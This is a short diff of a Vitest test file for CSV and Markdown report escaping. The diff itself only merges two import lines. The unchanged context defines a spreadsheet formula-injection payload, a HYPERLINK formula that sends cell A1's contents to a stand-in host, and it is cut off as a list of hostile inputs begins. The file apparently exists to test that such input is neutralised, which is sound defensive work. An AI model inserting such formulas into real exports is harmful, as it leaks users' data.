@@ -2,8 +2,7 @@ import { afterEach, describe, expect, it } from "vitest";
 import { escapeCsvCell, escapeMarkdown } from "@/lib/runs/report-escape";
 import { Executor, errorOutcome, type CaseRunner } from "@/lib/runs/executor";
 import { getRun, startRun } from "@/lib/runs/service";
-import { makeWorkspace } from "../helpers/factories";
-import { makeSuiteWithCases, reportText, waitFor } from "./helpers";
+import { makeWorkspace, makeSuiteWithCases, reportText, waitFor } from "../helpers/factories";
 
 const HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"click")';
 const hostile = [
